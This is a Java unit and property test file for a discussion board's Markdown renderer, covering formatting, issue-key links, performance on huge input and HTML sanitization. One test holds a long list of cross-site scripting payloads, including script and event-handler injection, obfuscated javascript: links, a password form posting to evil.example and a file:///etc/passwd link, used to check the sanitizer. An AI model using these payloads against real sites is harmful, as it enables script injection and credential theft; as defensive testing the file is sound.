package org.tandemportal.discussions.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {

    private static final Set<String> ENGAGEMENTS = Set.of("PTV-WEB", "SD1");

    private static final Pattern TAG = Pattern.compile("<(/?)([^\\s<>/]+)((?:\\s+[^<>]*?)?)\\s*/?>");
    private static final Pattern ATTRIBUTE = Pattern.compile("\\s+([^\\s=]+)=\"([^\"<>]*)\"");
    private static final Set<String> ELEMENTS = Set.of(
            "p",
            "br",
            "hr",
            "h3",
            "h4",
            "h5",
            "h6",
            "strong",
            "em",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a");
    private static final Set<String> ATTRIBUTES = Set.of("href", "title", "rel", "start", "align", "class", "tabindex");

    private static String html(String text) {
        return Markdown.render(text, ENGAGEMENTS);
    }

    /** Every tag is one of those allowed, closed by the book, with attributes that are allowed and can do no harm. */
    private static void assertHarmless(String sanitized) {
        // Empty comments come from the sanitizer: between braces that a template language could take for its own.
        String html = sanitized.replace("{<!-- -->", "{");
        Matcher tags = TAG.matcher(html);
        StringBuilder without = new StringBuilder();
        int from = 0;
        while (tags.find()) {
            without.append(html, from, tags.start());
            from = tags.end();
            assertThat(ELEMENTS).contains(tags.group(2));
            Matcher attributes = ATTRIBUTE.matcher(tags.group(3));
            int end = 0;
            while (attributes.find()) {
                assertThat(attributes.start()).isEqualTo(end);
                end = attributes.end();
                assertThat(ATTRIBUTES).contains(attributes.group(1));
                if (attributes.group(1).equals("href")) {
                    // one of three protocols, or none: a colon behind a slash, a question mark or a hash is none's
                    assertThat(attributes.group(2)).matches("(?is)(https?:|mailto:).*|[^:]*|[^:]*?[/?#].*");
                }
            }
            assertThat(tags.group(3).substring(end)).isBlank();
        }
        without.append(html.substring(from));
        assertThat(without.toString()).doesNotContain("<");
    }

    @Test
    void writesWhatPeopleMean() {
        assertThat(html("**bold** and *slanted* and `code`"))
                .isEqualTo("<p><strong>bold</strong> and <em>slanted</em> and <code>code</code></p>\n");
        assertThat(html("one\ntwo\n\nthree")).isEqualTo("<p>one<br />\ntwo</p>\n<p>three</p>\n");
        assertThat(html("- a\n- b")).isEqualTo("<ul><li>a</li><li>b</li></ul>\n");
        assertThat(html("3. a\n4. b")).isEqualTo("<ol start=\"3\"><li>a</li><li>b</li></ol>\n");
        assertThat(html("> said")).isEqualTo("<blockquote>\n<p>said</p>\n</blockquote>\n");
    }

    @Test
    void writesTablesThatKeysCanScroll() {
        assertThat(html("| a | b |\n|---|--:|\n| 1 | 2 |"))
                .contains("<table tabindex=\"0\">", "<th align=\"right\">b</th>", "<td align=\"right\">2</td>");
    }

    @Test
    void writesFencedCodeAsItIs() {
        assertThat(html("```sql\nselect '<b>' from PTV-WEB-42;\n```"))
                .isEqualTo(
                        "<pre tabindex=\"0\"><code class=\"language-sql\">select &#39;&lt;b&gt;&#39; from PTV-WEB-42;\n"
                                + "</code></pre>\n");
    }

    @Test
    void bareAddressesBecomeLinks() {
        assertThat(html("see https://example.org/a?b=c&d=e."))
                .isEqualTo("<p>see <a href=\"https://example.org/a?b&#61;c&amp;d&#61;e\""
                        + " rel=\"nofollow noopener noreferrer\">https://example.org/a?b&#61;c&amp;d&#61;e</a>.</p>\n");
        assertThat(html("mail a@b.example")).contains("href=\"mailto:a&#64;b.example\"");
    }

    @Test
    void noLinkTellsWhereItWasClicked() {
        String html = html("[a](https://example.org) [b](/board) PTV-WEB-42 <https://example.org>");
        assertThat(html.split("<a ", -1)).hasSize(5);
        assertThat(html.split("rel=\"nofollow noopener noreferrer\"", -1)).hasSize(5);
    }

    @Test
    void keysBecomeLinksToTheirPages() {
        assertThat(html("PTV-WEB-42")).contains("<a href=\"/change-requests/PTV-WEB-42\"", ">PTV-WEB-42</a>");
        assertThat(html("(PTV-WEB-B3)")).contains("(<a href=\"/server-builds/PTV-WEB-B3\"", "</a>)");
        assertThat(html("before PTV-WEB-F7, after")).contains("before <a href=\"/features/PTV-WEB-F7\"", "</a>, after");
        assertThat(html("**PTV-WEB-R2**")).contains("<strong><a href=\"/incident-reviews/PTV-WEB-R2\"");
        assertThat(html("SD1-1 SD1-2.\n- SD1-B3"))
                .contains("/change-requests/SD1-1\"", "/change-requests/SD1-2\"", "/server-builds/SD1-B3\"");
        assertThat(html("[PTV-WEB-42")).contains("[<a href=\"/change-requests/PTV-WEB-42\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "UTF-8",
                "SHA-256",
                "HB-SHOP-3",
                "`PTV-WEB-42`",
                "XPTV-WEB-42",
                "PTV-WEB-42nd",
                "PTV-WEB-42-rc1",
                "PTV-WEB-0",
                "PTV-WEB-X7",
                "ptv-web-42",
                "a/PTV-WEB-42",
                "PTV-WEB"
            })
    void whatIsNoKeyOfOurEngagementsStaysText(String text) {
        assertThat(html(text)).doesNotContain("<a");
    }

    @Test
    void keysWithinLinksStayPartOfThem() {
        assertThat(html("[see PTV-WEB-42](https://example.org/PTV-WEB-42)"))
                .isEqualTo("<p><a href=\"https://example.org/PTV-WEB-42\" rel=\"nofollow noopener noreferrer\">"
                        + "see PTV-WEB-42</a></p>\n");
        assertThat(html("https://example.org/PTV-WEB-42")).doesNotContain("/change-requests");
    }

    @Test
    void headingsFollowThePagesOwnWithoutLeavingALevelOut() {
        assertThat(html("# a\n### b\n# c\n## d\n###### e"))
                .isEqualTo("<h3>a</h3>\n<h4>b</h4>\n<h3>c</h3>\n<h4>d</h4>\n<h5>e</h5>\n");
        assertThat(html("###### deep")).isEqualTo("<h3>deep</h3>\n");
    }

    @Test
    void picturesBecomeLinks() {
        assertThat(html("![a *dark* page](https://elsewhere.example/x.png)"))
                .isEqualTo("<p><a href=\"https://elsewhere.example/x.png\" rel=\"nofollow noopener noreferrer\">"
                        + "a <em>dark</em> page</a></p>\n");
        assertThat(html("![](https://elsewhere.example/x.png)")).contains(">https://elsewhere.example/x.png</a>");
        assertThat(html("[![alt](https://a.example/x.png)](https://b.example/)"))
                .isEqualTo("<p><a href=\"https://b.example/\" rel=\"nofollow noopener noreferrer\">alt</a></p>\n");
        assertThat(html("[a ![b](/x) ![c ![d](/y)](/z) e](/w) PTV-WEB-1"))
                .isEqualTo(
                        "<p><a href=\"/w\" rel=\"nofollow noopener noreferrer\">a b c d e</a>"
                                + " <a href=\"/change-requests/PTV-WEB-1\" rel=\"nofollow noopener noreferrer\">PTV-WEB-1</a></p>\n");
    }

    @Test
    void nothingComesOfNothing() {
        assertThat(html(null)).isEmpty();
        assertThat(html(" \n ")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<style>*{background:url(//evil.example)}</style>",
                "<details open ontoggle=alert(1)>",
                "<form action=//evil.example><input name=password></form>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=0;url=//evil.example>",
                "<div style=\"position:fixed;inset:0\">x</div>",
                "<!--<img src=\"--><img src=x onerror=alert(1)>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](<java\nscript:alert(1)>)",
                "[x](&#106;avascript:alert(1))",
                "[x](&#x6A;&#x61;vascript&colon;alert(1))",
                "[x](javascript&#58;alert(1))",
                "[x](%6Aavascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](file:///etc/passwd)",
                "[x](blob:https://a.example/1)",
                "<javascript:alert(1)>",
                "<data:text/html,<script>alert(1)</script>>",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2Zy8+)",
                "[x](https://a.example \"onmouseover=alert(1) x='\")",
                "[x](https://a.example '\"><script>alert(1)</script>')",
                "[x][y]\n\n[y]: javascript:alert(1) \"t\"",
                "``` \"><script>alert(1)</script>\ncode\n```",
                "```a\" onclick=\"alert(1)\ncode\n```",
                "| <script> | `|` |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
                "https://a.example/\"onmouseover=alert(1)//",
                "a\u0000<script\u0000>alert(1)</script>",
                "\u202e<script>alert(1)</script>",
                "{{constructor.constructor('alert(1)')()}} #{7*7} ${7*7}",
                "<p title=\"</p><script>alert(1)</script>\">"
            })
    void nastyTextDoesNoHarm(String text) {
        assertHarmless(html(text));
        assertHarmless(html("> - " + text));
        assertHarmless(html("**" + text + "**"));
    }

    @Test
    void rawHtmlIsShownAsItWasTyped() {
        assertThat(html("a <b>bold</b> move")).isEqualTo("<p>a &lt;b&gt;bold&lt;/b&gt; move</p>\n");
        assertThat(html("<script>alert(1)</script>")).contains("&lt;script&gt;alert(1)&lt;/script&gt;");
    }

    @Test
    void hugeAndNestedTextsAreWrittenInGoodTime() {
        List<String> texts = new ArrayList<>(List.of(
                "**a *b ".repeat(1400) + "* **".repeat(1400),
                "[a ".repeat(2000) + "](x)".repeat(2000),
                "![a ".repeat(2000) + "](x)".repeat(2000)));
        for (String part : new String[] {
            ">",
            "- ",
            "[",
            "![",
            "![a](",
            "*a ",
            "**a ",
            "_a_",
            "`",
            "``a",
            "<a ",
            "<",
            "&",
            "#",
            "|a",
            "a@b.c ",
            "1. ",
            "http://a",
            "[a](b",
            "\\",
            "~",
            "\"",
            "PTV-WEB-1 ",
            "A-",
            "A1-",
            "PTV-"
        }) {
            texts.add(part.repeat(20_000 / part.length()));
        }
        for (String text : texts) {
            Assertions.assertTimeout(Duration.ofSeconds(10), () -> html(text), text.substring(0, 20));
            Assertions.assertTimeout(Duration.ofSeconds(10), () -> html("|a|b|\n|-|-|\n" + text));
        }
    }

    @Test
    void hugeTextsDoNoHarm() {
        for (String part : new String[] {"<a href=\"", "<script>", "[x](javascript:a) ", "<!--", "![<b>](data:a) "}) {
            assertHarmless(html(part.repeat(3_000 / part.length())));
        }
    }

    @Test
    void textThatIsNestedBeyondReasonStillShows() throws InterruptedException {
        String text = "*a **b ".repeat(400) + "** *".repeat(400);
        String[] html = new String[1];
        Thread small = new Thread(null, () -> html[0] = html(text), "small stack", 160 * 1024);
        small.start();
        small.join();
        assertThat(html[0]).contains("a").contains("b");
        assertHarmless(html[0]);
    }

    @Property(tries = 600)
    void noTextAtAllDoesHarm(@ForAll("texts") String text) {
        assertHarmless(html(text));
    }

    @Property(tries = 600)
    void noMixtureOfMarksDoesHarm(@ForAll("mixtures") String text) {
        assertHarmless(html(text));
    }

    @Provide
    static Arbitrary<String> texts() {
        return Arbitraries.strings().all().ofMaxLength(300);
    }

    @Provide
    static Arbitrary<String> mixtures() {
        return Arbitraries.of(
                        "<",
                        ">",
                        "</",
                        "/>",
                        "\"",
                        "'",
                        "=",
                        "script",
                        "img",
                        "a",
                        "svg",
                        " onerror=",
                        " href=",
                        "style",
                        "javascript:",
                        "data:text/html,",
                        "//evil.example",
                        "&#106;",
                        "&lt;",
                        "&",
                        ";",
                        "[",
                        "]",
                        "(",
                        ")",
                        "!",
                        "`",
                        "```",
                        "\n",
                        "\n\n",
                        "|",
                        "---",
                        "|-|-|",
                        "*",
                        "**",
                        "_",
                        "# ",
                        "> ",
                        "- ",
                        "1. ",
                        "\t",
                        "\\",
                        "\u0000",
                        "<!--",
                        "-->",
                        "<![CDATA[",
                        "]]>",
                        "https://a.example/",
                        "PTV-WEB-42")
                .list()
                .ofMaxSize(60)
                .map(parts -> String.join("", parts));
    }
}
